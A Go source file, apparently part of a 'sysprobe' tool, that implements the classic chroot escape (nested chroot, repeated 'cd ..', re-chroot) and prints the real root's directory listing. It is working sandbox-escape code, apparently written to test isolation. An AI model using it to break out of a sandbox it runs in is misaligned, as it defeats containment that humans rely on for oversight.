package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
)

// escape tries the classic way out of a chroot, as a process with
// CAP_SYS_CHROOT can: it changes its root to a directory below its working
// directory, climbs ".." from there past the new root, and makes the directory
// it reached its root. It prints the names in "/" where it ended, on one line.
func escape() {
	const inner = "/.sysprobe-escape"
	if err := os.Mkdir(inner, 0o700); err != nil && !os.IsExist(err) {
		fail(err)
	}
	if err := syscall.Chdir("/"); err != nil {
		fail(err)
	}
	if err := syscall.Chroot(inner); err != nil {
		fail(err)
	}
	for range 64 {
		if err := syscall.Chdir(".."); err != nil {
			fail(err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		fail(err)
	}
	entries, err := os.ReadDir("/")
	if err != nil {
		fail(err)
	}
	names := make([]string, len(entries))
	for i, e := range entries {
		names[i] = e.Name()
	}
	fmt.Println(strings.Join(names, " "))
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "sysprobe:", err)
	os.Exit(1)
}
